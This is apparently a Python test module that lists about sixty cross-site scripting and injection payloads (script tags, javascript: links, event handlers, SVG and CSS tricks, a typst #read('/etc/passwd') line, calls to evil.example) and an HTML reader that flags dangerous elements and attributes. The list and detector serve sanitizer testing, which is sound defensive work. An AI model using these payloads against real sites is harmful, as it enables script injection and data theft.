"""Text that tries to be code, and a reader that finds out whether it became any.

The attacks follow the classes of the OWASP cross-site scripting prevention and filter evasion
cheat sheets (general web practice, from memory), and typst's own syntax reference.
"""

from html.parser import HTMLParser

ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    '![alt" onerror="alert(1)](https://evil.example/a.png)',
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    '[x](#fact-a" onclick="alert(1))',
    '[x](https://a.example "t" onmouseover="alert(1)")',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<javascript:alert(1)>",
    "<div><a href='javascript:alert(1)' onclick='alert(1)'>x</a></div>",
    "<p><img src='//evil.example/a.png' onload='alert(1)' style='x:url(//evil.example)'></p>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
    "<style>@import 'https://evil.example/a.css'; * {display:none}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</section></article></main><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src='x'>",
    "<form action='https://evil.example'><input name=a><button>go</button></form>",
    "<base href='https://evil.example/'><link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<video src=x onerror=alert(1)></video><audio autoplay src='//evil.example/a'></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '"><img src=x onerror=alert(1)>',
    "' onfocus='alert(1)' autofocus='",
    "{{ 7 * 7 }}{% raw %}{# x #}",
    "${7*7} #{7*7} \\u003cscript\\u003e",
    '#eval("1 + 1") #read("/etc/passwd") #import "@preview/cetz:0.3.1"',
    '"); #panic("x") #let x = ("',
    '\\" \\\\ $ x^2 $ <label> @ref *b* _i_ `r` ~ = - + / // /* */',
    "\\u{41} \\n \\",
    "\x00\x07\x1b[31m \ud800 \ufffe \U0010ffff",
)

_HARMFUL_ELEMENTS = (
    "script iframe object embed link base form input button textarea select video audio source "
    "track applet frame frameset template noscript math foreignobject animate set"
)


class Reader(HTMLParser):
    """Reads HTML by the standard library and notes what would act or load."""

    VOID = frozenset(("meta", "br", "hr", "img", "input", "wbr"))

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.harm: list[str] = []
        self.unbalanced: list[str] = []
        self.ids: list[str] = []
        self.fragments: list[str] = []
        self.headings: list[int] = []
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.words: list[str] = []
        self.open: list[str] = []
        self.feed(text)
        self.close()
        self.unbalanced += self.open

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag not in self.VOID:
            self.handle_endtag(tag)

    def handle_starttag(self, tag, attrs):
        attributes = {key: value or "" for key, value in attrs}
        self.elements.append((tag, attributes))
        if tag not in self.VOID:
            self.open.append(tag)
        if tag in _HARMFUL_ELEMENTS.split():
            self.harm.append(f"<{tag}>")
        if len(tag) == 2 and tag[0] == "h" and tag[1].isdigit():
            self.headings.append(int(tag[1]))
        for key, value in attributes.items():
            self._look_at(tag, key, value)

    def _look_at(self, tag, key, value):
        address = "".join(value.split()).lower()
        if key.startswith("on") or key in ("srcdoc", "formaction", "action", "srcset", "ping"):
            self.harm.append(f"{tag} {key}={value}")
        loads = key in ("src", "poster", "data", "background", "xlink:href")
        loads |= key == "href" and tag not in ("a", "use")
        pictures = ("data:image/png;base64,", "data:image/jpeg;base64,")
        if tag == "img":  # a picture's own scripts do not run (HTML, 4.8.3; SVG Integration)
            pictures += ("data:image/svg+xml;base64,",)
        if loads and not address.startswith(pictures):
            self.harm.append(f"{tag} loads {value}")
        if key == "href" and tag == "a":
            scheme = address.partition(":")[0] if ":" in address else ""
            if scheme not in ("", "http", "https", "mailto"):
                self.harm.append(f"link to {value}")
        if key == "href" and value.startswith("#"):
            self.fragments.append(value[1:])
        if key == "style" and any(
            word in address for word in ("url(h", "url(/", "url('h", "expression", "@import", "\\")
        ):
            self.harm.append(f"{tag} style={value}")
        if key == "id":
            self.ids.append(value)

    def handle_endtag(self, tag):
        if tag in self.VOID:
            return
        if not self.open or self.open.pop() != tag:
            self.unbalanced.append(f"</{tag}>")

    def handle_data(self, data):
        if "style" not in self.open:
            self.words.append(data)

    @property
    def text(self) -> str:
        return "".join(self.words)
